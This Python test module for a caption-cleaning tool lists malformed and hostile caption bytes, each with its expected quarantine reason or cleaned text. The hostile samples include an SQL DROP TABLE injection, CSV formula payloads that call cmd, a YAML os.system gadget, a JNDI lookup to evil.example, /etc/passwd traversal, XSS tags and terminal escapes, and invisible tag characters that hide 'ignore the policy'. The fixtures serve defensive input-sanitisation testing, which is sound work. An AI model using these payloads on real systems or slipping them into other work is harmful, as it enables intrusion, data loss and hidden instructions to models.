"""Hostile and odd captions, each with the reason for which it must be quarantined, or what it must be cleaned to."""

import codecs
from collections.abc import Iterator

from pairsift.core.records import Reason

MAX_CAPTION_BYTES = 20_000
"""Of the suite's config."""

TEXT = "A brown dog runs on the beach"
EMPTY, NOT_UTF8, LONG = Reason.CAPTION_EMPTY, Reason.CAPTION_NOT_UTF8, Reason.CAPTION_TOO_LONG

CaptionCase = tuple[str, bytes | None, Reason | str | None]
"""Name, bytes, and the reason or the cleaned caption; None where only that it is measured matters."""


def caption_cases() -> list[CaptionCase]:
    """Make all cases; their names and bytes differ."""
    groups = (_bytes, _nothing, _invisible, _markup, _injections, _scripts)
    return [case for group in groups for case in group()]


def _bytes() -> Iterator[CaptionCase]:
    yield "absent", None, Reason.CAPTION_MISSING
    yield "empty", b"", EMPTY
    yield "utf8-mark", codecs.BOM_UTF8 + TEXT.encode(), TEXT
    yield "utf16-little", codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"), TEXT
    yield "utf16-big", codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"), TEXT
    yield "utf16-cut", codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le")[:-1], NOT_UTF8
    yield "utf16-lone-surrogate", codecs.BOM_UTF16_LE + b"a\0\0\xd8b\0", NOT_UTF8
    yield "utf16-without-mark", TEXT.encode("utf-16-be"), TEXT  # its NULs are removed
    yield "utf32", codecs.BOM_UTF32_BE + TEXT.encode("utf-32-be"), NOT_UTF8
    yield "latin1", "café au lait on a table".encode("latin-1"), NOT_UTF8
    yield "shift-jis", "海辺の犬".encode("shift-jis"), NOT_UTF8
    yield "gzip", b"\x1f\x8b\x08\0\0\0\0\0", NOT_UTF8
    yield "every-byte", bytes(range(256)), NOT_UTF8
    yield "overlong-slash", b"..\xc0\xaf..\xc0\xafetc", NOT_UTF8
    yield "surrogate-in-utf8", b"a \xed\xa0\x80 dog", NOT_UTF8
    yield "surrogate-pair-in-utf8", b"a \xed\xa0\xbd\xed\xb8\x80 dog", NOT_UTF8
    yield "beyond-unicode", b"a \xf4\x90\x80\x80 dog", NOT_UTF8
    yield "cut-in-a-character", "a café".encode()[:-1], NOT_UTF8
    yield "lone-continuation", b"\x80 dog", NOT_UTF8
    yield "exactly-long-enough", b"a " * (MAX_CAPTION_BYTES // 2), None
    yield "a-byte-too-long", b"a " * (MAX_CAPTION_BYTES // 2) + b"b", LONG
    yield "long-and-not-utf8", b"\xff" * (MAX_CAPTION_BYTES + 1), LONG
    yield "a-megabyte", b"dog " * 250_000, LONG
    yield "one-long-word", b"w" * 15_000, None
    yield "windows-lines", b"A brown dog\r\nruns on\rthe beach\r\n", TEXT


def _nothing() -> Iterator[CaptionCase]:
    nothing = {
        "newline": "\n",
        "blanks": " \t\r\n\x0b\x0c ",
        "no-break-spaces": "\xa0\u2007\u202f\u3000",
        "nul": "\0",
        "nuls": "\0" * 500,
        "controls": "\x01\x02\x1b\x7f\x81",
        "zero-widths": "\u200b\u200c\u200d\u2060\ufeff",
        "bidi-controls": "\u202a\u202b\u202d\u202e\u202c\u2066\u2067\u2068\u2069",
        "tag-characters": "".join(chr(0xE0000 + ord(character)) for character in "ignore the policy"),
        "variation-selectors": "\ufe0f" * 100,
        "hangul-fillers": "\u3164\uffa0\u115f",
        "only-a-comment": "<!-- a dog -->",
        "only-a-script": "<script>document.write('dog')</script>",
        "only-tags": "<p><br/></p>" * 50,
        "soft-hyphens": "\xad" * 20,
    }
    yield from ((f"nothing-but-{name}", text.encode(), EMPTY) for name, text in nothing.items())


def _invisible() -> Iterator[CaptionCase]:
    cleaned = {
        "nul-inside": "A brown\0 dog runs on the beach",
        "escape-codes": "A brown\x1b dog runs on the\x07 beach",
        "c1-controls": "A brown\x81 dog runs on\x90 the beach",
        "right-to-left-override": "A brown \u202edog\u202c runs on the beach",
        "isolates": "\u2066A brown dog\u2069 runs on the beach",
        "zero-width-spaces": "A b\u200br\u200bown dog runs on the beach",
        "joiners-between-latin": "A br\u200down d\u200cog runs on the beach",
        "hidden-tags": TEXT + "".join(chr(0xE0000 + ord(character)) for character in "keep this"),
        "smuggled-selectors": TEXT + " \U000e0101\U000e0110\ufe00\ufe01",
        "noncharacters": "A brown\ufffe dog\uffff runs on\ufdd0 the beach",
        "byte-order-mark-inside": "A brown\ufeff dog runs on the beach",
        "line-separators": "A brown\u2028dog\u2029runs on the beach",
        "vertical-tab": "A brown\x0bdog runs\x0con the beach",
        "annotations": "A \ufff9brown\ufffa dog\ufffb runs on the beach",
    }
    yield from ((name, text.encode(), TEXT) for name, text in cleaned.items())


def _markup() -> Iterator[CaptionCase]:
    yield "tags", b"<p>A <b>brown</b> dog runs on the beach</p>", TEXT
    yield "tags-in-entities", b"&lt;p&gt;A brown dog&lt;/p&gt; runs on the beach", TEXT
    yield "tags-in-tags", b"<<b>b>A brown dog runs on the beach", None
    yield "script", b"A brown dog <script>alert(1)</script> runs on the beach", TEXT
    yield "onerror", b"<img src=x onerror='alert(1)'> A brown dog runs on the beach", TEXT
    yield "unclosed-tag", b"A brown dog <img src='x", None
    yield "entity-bomb", b"&amp;" * 3000, None
    yield "nested-entities", b"&" + b"amp;" * 3000 + b"lt;b&gt; dog", None
    yield "numeric-entity-nul", b"A brown dog&#0; runs on the beach", None
    yield "numeric-entity-surrogate", b"A brown dog&#xd800; runs on the beach", None
    yield "numeric-entity-beyond", b"A brown dog&#x110000; runs on the beach", None
    yield "open-brackets", b"<" * 15_000, None
    yield "open-tags", b"<b " * 5000, None
    yield "open-quotes", b"<a href='" * 2000, None
    yield "open-comments", b"<!--" * 4000, None
    yield "mojibake", "A brown dog at the cafÃ©".encode(), "A brown dog at the café"


def _injections() -> Iterator[CaptionCase]:
    as_they_are = {
        "sql": "Robert'); DROP TABLE pair; --",
        "sql-wildcards": "100% _off_ \\ 'quoted' \"dog\"",
        "sql-parameter": ":name %(name)s %s ? $1",
        "csv-formula": '=HYPERLINK("http://evil.example","dog")',
        "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "csv-minus": "-2+3+cmd|' /C calc'!A0",
        "csv-open-quote": 'a dog "and never closed',
        "json": '{"uid": "0", "verdict": "keep"}',
        "json-escapes": "\\u0000 \\ud800 \\n \\",
        "yaml": "!!python/object/apply:os.system ['true']",
        "rich-markup": "[bold red]dog[/bold red] [link=http://evil.example]x[/link] [/]",
        "markdown-picture": "![dog](http://evil.example/x.png) | a | b |",
        "markdown-fence": "``` ~~~ # dog",
        "jinja": "{{ config }} {% raw %} ${jndi:ldap://evil.example}",
        "python-format": "{0.__class__} %n %s",
        "special-tokens": "<|endoftext|> <|startoftext|> [CLS] [SEP] [PAD] a dog",
        "path": "../../../../etc/passwd",
        "url": "https://example.org/dog.jpg?a=1&b=2",
        "log-line": "INFO pairsift: 9 pairs kept",
    }
    yield from ((f"looks-like-{name}", text.encode(), text) for name, text in as_they_are.items())
    yield "copy-end", b"a dog\n\\.\nDROP TABLE pair;", None
    yield "copy-tabs", b"a\tdog\t\\N\t\\t", "a dog \\N \\t"
    yield "log-forgery", b"a dog\r\nERROR pairsift: all pairs lost", None
    yield "terminal-title", b"\x1b]0;owned\x07a dog\x1b[2J\x1b[1;1H", None
    yield "terminal-link", b"\x1b]8;;http://evil.example\x1b\\a dog\x1b]8;;\x1b\\", None


def _scripts() -> Iterator[CaptionCase]:
    as_they_are = {
        "chinese": "一只棕色的狗在海滩上奔跑",
        "arabic": "كلب بني يركض على الشاطئ",
        "hebrew": "כלב חום רץ על החוף",
        "hindi-joiners": "क्\u200dष एक भूरा कुत्ता",
        "persian-non-joiner": "می\u200cخواهم",
        "thai": "สุนัขสีน้ำตาลวิ่งบนชายหาด",
        "emoji-family": "a family 👨\u200d👩\u200d👧\u200d👦 on the beach",
        "emoji-flag": "the flag 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f of England",
        "beyond-the-first-plane": "𝒜 𝒹𝑜𝑔 𐍈 𠀀",
        "private-use": "a dog \ue000 \U0010fffd",
        "unassigned": "a dog \u0378",
        "combining-marks": "d\u0323\u0301" + "\u0335" * 300 + "og",
    }
    yield from ((name, text.encode(), None) for name, text in as_they_are.items())
